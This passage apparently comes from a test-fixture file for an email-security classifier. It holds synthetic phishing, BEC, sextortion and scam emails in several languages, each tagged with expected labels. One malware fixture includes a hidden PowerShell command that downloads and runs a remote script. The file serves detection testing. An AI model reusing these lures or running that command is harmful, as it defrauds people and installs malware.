          { heading: 'Meta Business Support' },
          'Your page Luna Bakery ATX has been reported for using copyrighted content (photo uploaded on 28 May). Under our intellectual property policy, your page will be permanently disabled in 48 hours.',
          'If you believe this is a mistake, you can submit an appeal. Please use the official form below:',
          { button: 'Submit Appeal', href: 'https://meta-business-appeal-case881204417.vercel.app/' },
          { small: '© 2025 Meta. Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025' },
        ]),
      }),
    ),
  },
  {
    // A hijacked reply thread: the supplier's look-alike domain (one letter doubled) replies to a
    // real invoice thread with new bank details.
    name: 'Reply-thread BEC: "RE: INV-20931" from a look-alike of the supplier\'s domain, new bank account "due to audit"',
    lang: 'en',
    lure: 'reply-thread',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Linda Moreau <linda.moreau@alpinefastenners.com>',
      to: 'payables@crestviewmfg.com',
      subject: 'RE: INV-20931 - March statement',
      date: 'Wed, 9 Apr 2025 15:52:18 -0400',
      messageId: '000b01dba97f$8c2e4a10$a48adc30$@alpinefastenners.com',
      dkim: ['alpinefastenners.com:default'],
      relay: 'mail.alpinefastenners.com [198.51.100.188]',
      auth: THROWAWAY,
      headers: [
        'In-Reply-To: <BL1PR12MB5144C0D1E2F3@BL1PR12MB5144.namprd12.prod.outlook.com>',
        'References: <BL1PR12MB5144C0D1E2F3@BL1PR12MB5144.namprd12.prod.outlook.com>',
        'Thread-Topic: INV-20931 - March statement',
      ],
      body: plain(
        "Hi Tom,\n\nThanks for confirming. Before you release the payment please note that our bank details have changed due to our annual audit. Kindly update our vendor record and remit INV-20931 ($48,210.00) to the account below. The old account is no longer able to receive funds.\n\nBank: First Horizon Bank\nAccount name: Alpine Fasteners Inc\nRouting: 084000026\nAccount: 7710 4482 0193\n\nPlease send me the payment confirmation once done.\n\nBest regards,\nLinda Moreau\nAccounts Receivable | Alpine Fasteners Inc.\n\n-----Original Message-----\nFrom: Tom Becker <payables@crestviewmfg.com>\nSent: Tuesday, April 8, 2025 11:20 AM\nTo: Linda Moreau <linda.moreau@alpinefasteners.com>\nSubject: RE: INV-20931 - March statement\n\nHi Linda, INV-20931 is approved and scheduled for this week's payment run.\n\nTom",
      ),
    }),
  },
  {
    // Task job scam from a free mailbox.
    name: 'Task job: "remote part-time, $250-$600 a day rating apps, contact us on WhatsApp" from Gmail',
    lang: 'en',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'Rachel Simmons HR <rachel.simmons.talent.hr@gmail.com>',
      to: 'tyler.brooks92@hotmail.com',
      subject: 'Flexible remote opportunity - earn $250-$600 daily',
      date: 'Mon, 9 Jun 2025 16:27:51 +0000',
      messageId: 'CAJk4mQ2xL9pT7nR3vB8c_W1zS5yD6fG0hK2jL4m@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Hello,\n\nI am Rachel from Apex Digital Talent. Your profile was recommended to us for a flexible remote position. The work is simple: you help app developers boost their ratings by completing 40 tasks a day on our platform. It takes 60-90 minutes and you can work from your phone.\n\nDaily earnings: $250-$600, paid every day. No experience required, free training provided.\n\nIf interested, please contact our coordinator on WhatsApp: +1 (213) 555-0147 and mention code AD-77.\n\nBest regards,\nRachel Simmons\nRecruitment Team',
      ),
    }),
  },
  {
    // Pig butchering: the "wrong address" opening that moves to a crypto platform.
    name: 'Pig butchering: "sorry, is this still Emily\'s email?" then the uncle\'s crypto trading, from Outlook.com',
    lang: 'en',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Vivian Zhao <vivian.zhao.design@outlook.com>',
      to: 'd.harper@sbcglobal.net',
      subject: 'Hi Emily, is this still your email?',
      date: 'Thu, 12 Jun 2025 01:44:09 +0000',
      messageId: 'SY4P282MB3921E6F5A4B3C2D1E0F9A8B7C6D5E4F3@SY4P282MB3921.AUSP282.PROD.OUTLOOK.COM',
      ...OUTLOOK,
      body: plain(
        'Hi Emily, it is Vivian from the design exhibition in Seattle. Is this still your email? I wanted to send you the photos.\n\nOh sorry, it seems I have the wrong address! My apologies for bothering you. But maybe it is fate, haha. I am Vivian, 34, I run a small interior design studio in Vancouver. Where are you from?\n\nMy uncle is a senior analyst and he taught me short-term contract trading on a platform, I made 23% this month. Life is too short to only work, right? If you are interested I can show you, it is very simple. You can also add me on WhatsApp +1 604 555 0188.\n\nHave a nice day!\nVivian',
      ),
    }),
  },
  {
    // Sextortion in plain text with a Bitcoin address; stripped.
    name: 'Sextortion: "I recorded you through your camera, pay $1450 in Bitcoin within 48 hours" plain text, no trace fields',
    lang: 'en',
    lure: 'sextortion',
    expect: ['fraud'],
    raw: withoutTrace(
      mail({
        from: 'jerry.tuckerm <jerry.tuckerm@mailbox-relay.icu>',
        to: 'steven.marsh@btinternet.com',
        subject: 'steven.marsh - your device was hacked',
        date: 'Sat, 14 Jun 2025 03:12:44 +0000',
        messageId: '20250614031244.9c1a@mailbox-relay.icu',
        relay: 'unknown [203.0.113.241]',
        body: plain(
          'Hello steven.marsh,\n\nI have to share bad news with you. A few months ago I got access to your devices through a malware on a site you visited. Since then I have been watching you.\n\nI recorded a video of you while you were watching adult content, together with what was on your screen. One click and this video goes to all your contacts and social networks.\n\nIf you want me to delete it, transfer $1450 in Bitcoin to this address:\nbc1qz8k4m2p7x9t3v6n1r5w8y2c4f7h0j3l6q9s2d5\n\nYou have 48 hours. I will know when you open this email. Do not reply, this address is not monitored. Do not go to the police, I will know.\n',
        ),
      }),
    ),
  },
  {
    // HMRC tax rebate from a throw-away domain; stripped.
    name: 'Tax rebate: HMRC "you are eligible for a refund of £428.50, claim before it expires" from a throw-away domain, no trace fields',
    lang: 'en',
    lure: 'tax',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'HM Revenue & Customs <refunds@hmrc-taxrefund-online.co.uk>',
        to: 'j.pickering@gmail.com',
        subject: 'Tax refund notification - Reference HMRC/TR/2025/44812',
        date: 'Tue, 24 Jun 2025 10:01:36 +0100',
        messageId: '20250624090136.4d8e@hmrc-taxrefund-online.co.uk',
        dkim: ['hmrc-taxrefund-online.co.uk:default'],
        relay: 'mail.hmrc-taxrefund-online.co.uk [198.51.100.9]',
        body: document([
          { heading: 'HM Revenue & Customs' },
          'After the last annual calculation of your fiscal activity, we have determined that you are eligible to receive a tax refund of £428.50.',
          'Please submit the tax refund request and allow us 3-5 working days to process it. Refund claims not made within 72 hours will be cancelled.',
          { button: 'Claim your refund', href: 'https://hmrc-taxrefund-online.co.uk/claim/?ref=TR44812' },
          { small: 'HM Revenue & Customs, 100 Parliament Street, London SW1A 2BQ' },
        ]),
      }),
    ),
  },
  {
    // Malware: a ZIP with a shortcut that runs PowerShell, from a hijacked mailbox.
    name: 'Malware: "statement of account" ZIP holding a .lnk that launches PowerShell, from a hijacked distributor mailbox',
    lang: 'en',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Jason Wu <jwu@pacificrimsupply.com>',
      to: 'accounts@hendersonmarine.com',
      subject: 'Statement of account - overdue items',
      date: 'Mon, 30 Jun 2025 09:48:11 -0700',
      messageId: '8f1e2d3c4b5a@pacificrimsupply.com',
      dkim: ['pacificrimsupply.com:default'],
      relay: 'mail.pacificrimsupply.com [198.51.100.133]',
      body: multipart('mixed', [
        plain(
          'Hi,\n\nPlease see the attached statement of account. There are three overdue items, kindly check and advise the payment date.\n\nRegards,\nJason Wu\nPacific Rim Supply',
        ),
        attachment(
          'Statement_June2025.zip',
          'application/zip',
          zip({
            'Statement_June2025.pdf.lnk': shortcut(
              '..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
              '-w hidden -nop -c "iwr https://files-statement.top/s.ps1 -useb | iex"',
            ),
          }),
        ),
      ]),
    }),
  },
  // ================================================================ Spanish
  {
    name: 'DGT: "notificación de multa pendiente, pague con reducción del 50%" from a throw-away domain, no trace fields',
    lang: 'es',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'DGT - Dirección General de Tráfico <notificaciones@dgt-sanciones-pago.com>',
        to: 'mcarmen.lopez@telefonica.net',
        subject: 'Notificación de sanción pendiente de pago - Expediente 2025/118402',
        date: 'Mon, 3 Mar 2025 09:12:20 +0100',
        messageId: '20250303081220.6a1b@dgt-sanciones-pago.com',
        dkim: ['dgt-sanciones-pago.com:default'],
        relay: 'mail.dgt-sanciones-pago.com [203.0.113.31]',
        body: document(
          [
            { heading: 'Dirección General de Tráfico' },
            'Le informamos que tiene una sanción de tráfico pendiente de pago por exceso de velocidad (expediente 2025/118402). Importe: 100,00 €.',
            'Si abona la multa en los próximos 3 días hábiles se aplicará una reducción del 50%. Transcurrido el plazo se iniciará la vía de apremio y se retirarán 4 puntos del permiso.',
            { button: 'Consultar y pagar la multa', href: 'https://dgt-sanciones-pago.com/expediente/118402' },
            { small: 'Dirección General de Tráfico - Ministerio del Interior. No responda a este correo.' },
          ],
          { lang: 'es' },
        ),
      }),
    ),
  },
  {
    name: 'AEAT: "devolución de IRPF de 612,40 € pendiente, confirme su cuenta bancaria" from a throw-away domain',
    lang: 'es',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Agencia Tributaria <devoluciones@agenciatributaria-devolucion.es>',
      to: 'jorge.martin.ruiz@gmail.com',
      subject: 'Devolución de la Renta 2024: 612,40 € pendiente de abono',
      date: 'Wed, 11 Jun 2025 12:40:05 +0200',
      messageId: '20250611104005.3f8c@agenciatributaria-devolucion.es',
      dkim: ['agenciatributaria-devolucion.es:mail'],
      relay: 'smtp.agenciatributaria-devolucion.es [198.51.100.71]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Agencia Tributaria' },
          'Estimado contribuyente:',
          'Tras revisar su declaración de la Renta 2024, le corresponde una devolución de 612,40 €. No hemos podido realizar el abono porque los datos de su cuenta bancaria son incorrectos.',
          'Para recibir la devolución, confirme sus datos bancarios antes de 48 horas.',
          { button: 'Confirmar datos y recibir devolución', href: 'https://agenciatributaria-devolucion.es/renta2024/confirmar?id=612' },
          { small: 'Agencia Estatal de Administración Tributaria. Este mensaje se ha enviado automáticamente.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    name: 'Correos: "tu paquete está retenido, paga 2,99 € de gastos de envío" from a throw-away domain, no trace fields',
    lang: 'es',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'Correos <info@correos-envio-seguimiento.com>',
        to: 'ana.belen.sanz@hotmail.es',
        subject: 'Tu envío ES2025884120 está retenido',
        date: 'Thu, 17 Apr 2025 18:03:44 +0200',
        messageId: '20250417160344.1e2d@correos-envio-seguimiento.com',
        dkim: ['correos-envio-seguimiento.com:default'],
        relay: 'mail.correos-envio-seguimiento.com [203.0.113.94]',
        body: document(
          [
            { heading: 'Tu envío está retenido en nuestro centro logístico' },
            {
              rows: [
                ['Número de envío', 'ES2025884120'],
                ['Estado', 'Pendiente de pago'],
                ['Importe', '2,99 €'],
              ],
            },
            'No hemos podido entregar tu paquete porque faltan los gastos de envío. Paga 2,99 € para programar una nueva entrega. Si no se abona en 48 horas, el paquete será devuelto al remitente.',
            { button: 'Pagar y programar entrega', href: 'https://correos-envio-seguimiento.com/pago/ES2025884120' },
            { small: 'Correos y Telégrafos S.A., S.M.E.' },
          ],
          { lang: 'es' },
        ),
      }),
    ),
  },
  {
    // CaixaBank spoofed, a QR in a PDF to "reactivate" the card.
    name: 'CaixaBank spoofed: "tarjeta bloqueada por seguridad, escanee el código QR" with a QR PDF',
    lang: 'es',
    lure: 'qr-code',
    expect: ['phishing'],
    raw: mail({
      from: 'CaixaBank <avisos@caixabank.es>',
      to: 'p.navarro.gil@yahoo.es',
      subject: 'Aviso de seguridad: su tarjeta ha sido bloqueada temporalmente',
      date: 'Tue, 6 May 2025 08:21:57 +0200',
      messageId: '20250506062157.77e1@caixabank.es',
      relay: 'host-203-0-113-12.fastvps.example [203.0.113.12]',
      auth: SPOOFED,
      body: multipart('mixed', [
        plain(
          'Estimado cliente:\n\nHemos detectado un intento de pago no reconocido con su tarjeta y, por su seguridad, la hemos bloqueado temporalmente.\n\nPara reactivarla, escanee el código QR del documento adjunto con la cámara de su móvil y siga los pasos. Si no la reactiva en 24 horas, deberá solicitar una tarjeta nueva con coste.\n\nAtentamente,\nCaixaBank',
        ),
        attachment(
          'Aviso_seguridad_CaixaBank.pdf',
          'application/pdf',
          qrPdf('https://caixabank-reactivar.app/tarjeta?c=88120', [
            'CaixaBank - Servicio de Seguridad',
            'Escanee el codigo con su movil para reactivar su tarjeta.',
            'Plazo: 24 horas',
          ]),
        ),
      ]),
    }),
  },
  {
    // Booking.com guest lure: "payment failed, re-enter your card or lose the reservation".
    name: 'Booking.com guest lure: "el pago de tu reserva ha fallado, vuelve a introducir la tarjeta" via SendGrid from a throw-away domain',
    lang: 'es',
    lure: 'shop',
    expect: ['phishing'],
    raw: mail({
      from: 'Booking.com <reservas@booking-confirmaciones.com>',
      to: 'lucia.fdez88@gmail.com',
      subject: 'Tu reserva en Hotel Mirador de Triana será cancelada',
      date: 'Fri, 23 May 2025 22:15:03 +0000',
      messageId: 'Rk2Lq9TnX4vB7cP1sZ8w@geopod-ismtpd-4',
      dkim: ['booking-confirmaciones.com:s1', 'sendgrid.net:smtpapi'],
      returnPath: 'bounces+39914412-d7e2-lucia.fdez88=gmail.com@em2291.booking-confirmaciones.com',
      relay: 'o2.ptr2291.booking-confirmaciones.com [149.72.201.66]',
      auth: THROWAWAY,
      headers: sendgridHeaders('Rk2Lq9TnX4vB7cP1sZ8wQ3eR6tY0uI5oP2aS4dF'),
      body: document(
        [
          'Hola, Lucía:',
          'El pago de tu reserva n.º 4120987731 en Hotel Mirador de Triana (Sevilla, 6–8 de junio) no se ha podido procesar. Para mantener la reserva, confirma de nuevo los datos de tu tarjeta en las próximas 12 horas.',
          { button: 'Confirmar pago', href: 'https://booking-confirmaciones.com/pago/4120987731' },
          'Si no confirmas el pago, el alojamiento cancelará la reserva automáticamente.',
          { small: 'Copyright © 1996–2025 Booking.com. Todos los derechos reservados.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    name: 'Task job: "trabajo desde casa, 300 € al día valorando productos, escríbenos por WhatsApp" from Gmail',
    lang: 'es',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'Laura Recursos Humanos <laura.rrhh.seleccion@gmail.com>',
      to: 'david.romero.p@gmail.com',
      subject: 'Oferta de empleo a tiempo parcial - desde casa',
      date: 'Tue, 1 Jul 2025 11:33:28 +0200',
      messageId: 'CAM9xP2qL7kT4nR8vB1c_Z3wS6yD0fG5hJ2kL9m@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Hola,\n\nSoy Laura, del departamento de selección de Vertex Marketing. Hemos visto tu perfil y queremos ofrecerte un trabajo a tiempo parcial desde casa.\n\nEl trabajo consiste en valorar productos de tiendas online para mejorar su posicionamiento. Solo necesitas el móvil y 1 hora al día. Ganancias: entre 150 € y 300 € al día, con pago diario.\n\nNo se requiere experiencia. Si te interesa, escríbenos por WhatsApp al +34 612 55 01 47 indicando el código VM-25.\n\nUn saludo,\nLaura',
      ),
    }),
  },
  // ================================================================ Brazilian Portuguese
  {
    name: 'Receita Federal: "restituição do IRPF 2025 liberada, atualize seus dados bancários" from a throw-away domain, no trace fields',
    lang: 'pt-BR',
    lure: 'tax',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Receita Federal <restituicao@receita-irpf2025.com.br>',
        to: 'carlos.eduardo.souza@uol.com.br',
        subject: 'Restituição IRPF 2025 - lote liberado para seu CPF',
        date: 'Mon, 16 Jun 2025 10:22:07 -0300',
        messageId: '20250616132207.5c2e@receita-irpf2025.com.br',
        dkim: ['receita-irpf2025.com.br:default'],
        relay: 'mail.receita-irpf2025.com.br [203.0.113.58]',
        body: document(
          [
            { heading: 'Receita Federal do Brasil' },
            'Prezado(a) contribuinte, sua restituição do Imposto de Renda 2025 no valor de R$ 2.318,45 foi liberada no 2º lote.',
            'Identificamos uma inconsistência nos seus dados bancários. Para receber o crédito, atualize suas informações em até 48 horas, caso contrário o valor ficará retido.',
            { button: 'Atualizar dados e receber', href: 'https://receita-irpf2025.com.br/restituicao/consulta' },
            { small: 'Ministério da Fazenda - Receita Federal. Não responda este e-mail.' },
          ],
          { lang: 'pt-BR' },
        ),
      }),
    ),
  },
  {
    // Detran fine payable by PIX: a QR in the PDF.
    name: 'Detran: "multa de trânsito com desconto de 40% via PIX" with a PIX QR code in the PDF, from a throw-away domain',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'DETRAN-SP Notificações <notificacao@detran-multas-sp.com>',
      to: 'fernanda.ribeiro@terra.com.br',
      subject: 'Notificação de Autuação - Infração de trânsito AIT 5R41288',
      date: 'Wed, 2 Jul 2025 09:41:50 -0300',
      messageId: '20250702124150.8e3b@detran-multas-sp.com',
      dkim: ['detran-multas-sp.com:mail'],
      relay: 'mail.detran-multas-sp.com [198.51.100.102]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        document(
          [
            'Prezado(a) condutor(a),',
            'Foi registrada uma infração de trânsito em nome do proprietário do veículo (AIT 5R41288, excesso de velocidade). Valor: R$ 195,23.',
            'Pague até o vencimento com 40% de desconto via PIX, escaneando o QR Code do boleto em anexo. Após o prazo, a multa será inscrita em dívida ativa e o licenciamento bloqueado.',
            { small: 'Departamento Estadual de Trânsito de São Paulo' },
          ],
          { lang: 'pt-BR' },
        ),
        attachment(
          'Notificacao_AIT_5R41288.pdf',
          'application/pdf',
          qrPdf(
            '00020126580014br.gov.bcb.pix0136a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d5204000053039865406117.145802BR5918DETRAN PAGAMENTOS6009SAO PAULO62070503***6304B1C2',
            ['DETRAN-SP - Notificacao de Autuacao', 'AIT 5R41288 - Valor com desconto: R$ 117,14', 'Pague via PIX escaneando o QR Code'],
          ),
        ),
      ]),
    }),
  },
  {
    // A fake boleto from a hijacked business mailbox: the payee in the PDF is not the company.
    name: 'Boleto falso: "segunda via do boleto em atraso" PDF from a hijacked accounting office mailbox',
    lang: 'pt-BR',
    lure: 'bank',
    expect: ['phishing', 'fraud'],
    todo: "clean/none: content_payment_request, auth_results_missing; a 'second copy' boleto 'issued by our new partner bank' whose beneficiary in the PDF is another company, 'pay today to avoid protest'",
    raw: mail({
      from: 'Financeiro Contabilidade Moreira <financeiro@contabilidademoreira.com.br>',
      to: 'compras@padariasaojose.com.br',
      subject: 'Segunda via - Boleto vencido honorários junho',
      date: 'Thu, 10 Jul 2025 14:05:33 -0300',
      messageId: '7e2c9a1b4f3d@contabilidademoreira.com.br',
      dkim: ['contabilidademoreira.com.br:default'],
      relay: 'smtp.contabilidademoreira.com.br [198.51.100.45]',
      body: multipart('mixed', [
        plain(
          'Boa tarde,\n\nSegue em anexo a segunda via do boleto dos honorários de junho, que consta em aberto no nosso sistema. Pedimos a gentileza de efetuar o pagamento hoje para evitar juros e o protesto do título.\n\nAtenção: o boleto foi emitido por nosso novo banco parceiro.\n\nAtenciosamente,\nFinanceiro\nContabilidade Moreira',
        ),
        attachment(
          'Boleto_2via_honorarios_junho.pdf',
          'application/pdf',
          textPdf([
            'Banco Digital Pagamentos S.A.',
            'Beneficiario: M R SERVICOS DIGITAIS LTDA  CNPJ 41.228.901/0001-77',
            'Pagador: Padaria Sao Jose',
            'Valor: R$ 1.980,00   Vencimento: 10/07/2025',
            '34191.09008 61207.727308 71444.640008 1 11430000198000',
          ]),
        ),
      ]),
    }),
  },
  {
    name: 'Nubank callback: "compra não reconhecida de R$ 4.899,00, ligue para a central" from a throw-away domain, no trace fields',
    lang: 'pt-BR',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: withoutTrace(
      mail({
        from: 'Nubank Segurança <seguranca@nubank-alerta.com>',
        to: 'juliana.mendes@gmail.com',
        subject: 'Compra aprovada: R$ 4.899,00 - Magazine Online',
        date: 'Sat, 19 Jul 2025 20:48:15 -0300',
        messageId: '20250719234815.2b7a@nubank-alerta.com',
        dkim: ['nubank-alerta.com:default'],
        relay: 'mail.nubank-alerta.com [203.0.113.177]',
        body: document(
          [
            { heading: 'Compra aprovada no seu cartão' },
            {
              rows: [
                ['Valor', 'R$ 4.899,00'],
                ['Estabelecimento', 'MAGAZINE ONLINE SP'],
                ['Cartão final', '•••• 3321'],
              ],
            },
            'Não reconhece esta compra? Ligue imediatamente para a nossa central de segurança no 0800 555 0199 para cancelar a transação e bloquear o cartão. Atendimento 24 horas.',
            { small: 'Nu Pagamentos S.A. - Instituição de Pagamento' },
          ],
          { lang: 'pt-BR' },
        ),
      }),
    ),
  },
  {
    // Meta copyright lure in Portuguese from a Gmail mailbox.
    name: 'Meta em português: "sua conta do Instagram viola direitos autorais, recorra em 24 horas" from Gmail, form on a Netlify app',
    lang: 'pt-BR',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Instagram Suporte <suporte.direitosautorais.meta@gmail.com>',
      to: 'studio.beleza.carol@gmail.com',
      subject: 'Aviso de violação de direitos autorais - @studiobelezacarol',
      date: 'Tue, 22 Jul 2025 13:30:47 -0300',
      messageId: 'CAGk7Lq2xT9mN4rB8vC1w_P5zY3sD6fQ0hJ2kL7n@mail.gmail.com',
      ...GMAIL,
      body: document(
        [
          { heading: 'Central de Ajuda do Instagram' },
          'Olá, @studiobelezacarol. Recebemos uma denúncia de violação de direitos autorais referente a uma publicação da sua conta.',
          'Se você acredita que a denúncia é um erro, envie um recurso em até 24 horas. Caso contrário, sua conta será desativada permanentemente.',
          { button: 'Enviar recurso', href: 'https://instagram-recurso-copyright.netlify.app/' },
          { small: '© Instagram from Meta. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  // ================================================================ European Portuguese
  {
    name: 'Portagens: "tem portagens em dívida, regularize para evitar coima" from a throw-away domain, no trace fields',
    lang: 'pt-PT',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'Portagens Portugal <avisos@portagens-regularizacao.pt>',
        to: 'rui.alves.costa@sapo.pt',
        subject: 'Aviso: portagens por pagar - matrícula associada',
        date: 'Mon, 14 Apr 2025 10:05:19 +0100',
        messageId: '20250414090519.4a6c@portagens-regularizacao.pt',
        dkim: ['portagens-regularizacao.pt:default'],
        relay: 'mail.portagens-regularizacao.pt [203.0.113.222]',
        body: document(
          [
            'Caro(a) cliente,',
            'Verificámos que existem portagens por pagar associadas à sua matrícula, no valor de 8,45 €. O prazo de pagamento voluntário termina hoje.',
            'Se não regularizar a situação, será instaurado um processo de contraordenação com coima mínima de 25 € por portagem.',
            { button: 'Regularizar agora', href: 'https://portagens-regularizacao.pt/pagamento?ref=PT88412' },
            { small: 'Serviço de Portagens. Não responda a este email.' },
          ],
          { lang: 'pt-PT' },
        ),
      }),
    ),
  },
  {
    name: 'Autoridade Tributária: "reembolso de IRS de 386,20 € disponível, confirme o IBAN" from a throw-away domain',
    lang: 'pt-PT',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Portal das Finanças <reembolsos@at-financas-reembolso.com>',
      to: 'ines.carvalho@gmail.com',
      subject: 'Reembolso de IRS 2024 - ação necessária',
      date: 'Thu, 5 Jun 2025 15:17:42 +0100',
      messageId: '20250605141742.9f1d@at-financas-reembolso.com',
      dkim: ['at-financas-reembolso.com:s1'],
      relay: 'smtp.at-financas-reembolso.com [198.51.100.160]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Autoridade Tributária e Aduaneira' },
          'Exmo(a). Senhor(a), após o processamento da sua declaração de IRS 2024, tem direito a um reembolso de 386,20 €.',
          'O reembolso não pôde ser efetuado porque o IBAN registado está desatualizado. Confirme os seus dados no prazo de 5 dias.',
          { button: 'Confirmar IBAN', href: 'https://at-financas-reembolso.com/irs/reembolso?nif=confirmar' },
          { small: 'Portal das Finanças. Mensagem automática.' },
        ],
        { lang: 'pt-PT' },
      ),
    }),
  },
  {
    name: 'CTT: "a sua encomenda aguarda pagamento de 1,79 € de taxas" from a throw-away domain, no trace fields',
    lang: 'pt-PT',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'CTT Expresso <seguimento@ctt-entregas-pt.com>',
        to: 'joana.ferreira77@hotmail.com',
        subject: 'Encomenda RR884120995PT - entrega suspensa',
        date: 'Wed, 21 May 2025 19:44:03 +0100',
        messageId: '20250521184403.7c3e@ctt-entregas-pt.com',
        dkim: ['ctt-entregas-pt.com:default'],
        relay: 'mail.ctt-entregas-pt.com [203.0.113.109]',
        body: document(
          [
            { heading: 'A sua encomenda aguarda pagamento' },
            'A encomenda RR884120995PT não foi entregue porque existem taxas alfandegárias por liquidar no valor de 1,79 €.',
            'Efetue o pagamento nas próximas 48 horas para agendar nova entrega. Após este prazo a encomenda será devolvida ao remetente.',
            { button: 'Pagar taxas', href: 'https://ctt-entregas-pt.com/pagamento/RR884120995PT' },
            { small: 'CTT - Correios de Portugal, S.A.' },
          ],
          { lang: 'pt-PT' },
        ),
      }),
    ),
  },
  // ================================================================ German
  {
    // Sparkasse spoofed: pushTAN "update" via a QR in a PDF; stripped.
    name: 'Sparkasse: "pushTAN-Verfahren aktualisieren, QR-Code scannen" with a QR PDF from a throw-away domain, no trace fields',
    lang: 'de',
    lure: 'qr-code',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Sparkasse Kundenservice <service@sparkasse-pushtan-update.de>',
        to: 'k.hoffmann@web.de',
        subject: 'Wichtig: Aktualisierung Ihres pushTAN-Verfahrens erforderlich',
        date: 'Tue, 18 Mar 2025 09:27:36 +0100',
        messageId: '20250318082736.5e9a@sparkasse-pushtan-update.de',
        dkim: ['sparkasse-pushtan-update.de:default'],
        relay: 'mail.sparkasse-pushtan-update.de [198.51.100.29]',
        body: multipart('mixed', [
          plain(
            'Sehr geehrte Kundin, sehr geehrter Kunde,\n\naufgrund neuer EU-Sicherheitsrichtlinien muss Ihr pushTAN-Verfahren bis zum 25.03.2025 neu registriert werden. Andernfalls wird Ihr Online-Banking-Zugang vorübergehend gesperrt.\n\nBitte scannen Sie den QR-Code im beigefügten Dokument mit Ihrem Smartphone und folgen Sie den Anweisungen.\n\nMit freundlichen Grüßen\nIhre Sparkasse',
          ),
          attachment(
            'pushTAN_Registrierung.pdf',
            'application/pdf',
            qrPdf('https://sparkasse-pushtan-update.de/registrierung?kd=hoffmann', [
              'Sparkasse - pushTAN Neuregistrierung',
              'Scannen Sie den QR-Code mit Ihrem Smartphone.',
              'Frist: 25.03.2025',
            ]),
          ),
        ]),
      }),
    ),
  },
  {
    name: 'DHL: "Zollgebühr von 2,49 € ausstehend, Sendung wird zurückgeschickt" from a throw-away domain, no trace fields',
    lang: 'de',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'DHL Paket <sendung@dhl-zollabwicklung.com>',
        to: 'markus.weber84@gmx.de',
        subject: 'Ihre Sendung 00340434188123456789 wartet auf Zahlung',
        date: 'Fri, 4 Apr 2025 16:12:28 +0200',
        messageId: '20250404141228.3a1f@dhl-zollabwicklung.com',
        dkim: ['dhl-zollabwicklung.com:default'],
        relay: 'mail.dhl-zollabwicklung.com [203.0.113.71]',
        body: document(
          [
            { heading: 'Ihre Sendung wartet auf Zahlung' },
            'Für Ihre Sendung 00340434188123456789 ist eine Zollgebühr von 2,49 € angefallen. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.',
            { button: 'Jetzt bezahlen', href: 'https://dhl-zollabwicklung.com/zahlung/00340434188123456789' },
            { small: 'DHL Paket GmbH, Sträßchensweg 10, 53113 Bonn' },
          ],
          { lang: 'de' },
        ),
      }),
    ),
  },
  {
    // Device code in German from a tax adviser's hijacked mailbox.
    name: 'Device code (de): "Dokumente im gesicherten Mandantenportal, Code auf microsoft.com/devicelogin eingeben" from a tax adviser\'s hijacked mailbox',
    lang: 'de',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Steuerkanzlei Brandt <kanzlei@steuerberatung-brandt.de>',
      to: 'info@schreinerei-koehler.de',
      subject: 'Jahresabschluss 2024 - Freigabe im Mandantenportal',
      date: 'Mon, 12 May 2025 11:03:54 +0200',
      messageId: 'FR2P281MB2745A9B8C7D6E5F4A3B2C1D0E9F8A7B6@FR2P281MB2745.DEUP281.PROD.OUTLOOK.COM',
      dkim: ['steuerberatung-brandt.de:selector1'],
      relay: 'DEU01-FR2-obe.outbound.protection.outlook.com [40.107.135.62]',
      body: document(
        [
          'Sehr geehrter Herr Köhler,',
          'der Jahresabschluss 2024 liegt zur Freigabe in unserem gesicherten Mandantenportal bereit. Aus Datenschutzgründen erfolgt die Anmeldung über Microsoft.',
          'Bitte öffnen Sie [https://microsoft.com/devicelogin](https://microsoft.com/devicelogin) und geben Sie folgenden Code ein:',
          { code: 'BXQ4-7LMT' },
          'Der Code ist 15 Minuten gültig.',
          'Mit freundlichen Grüßen\nSabine Brandt\nSteuerberaterin',
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // Booking.com host lure in German, a "guest's photos" link that delivers a ClickFix page.
    name: 'Booking.com (de): "Gast meldet Schaden, Fotos ansehen, Verifizierung: Win+R, Strg+V" from a throw-away domain',
    lang: 'de',
    lure: 'account-alert',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Booking.com Partner-Support <partner@extranet-gastmeldung.com>',
      to: 'rezeption@hotel-seeblick-konstanz.de',
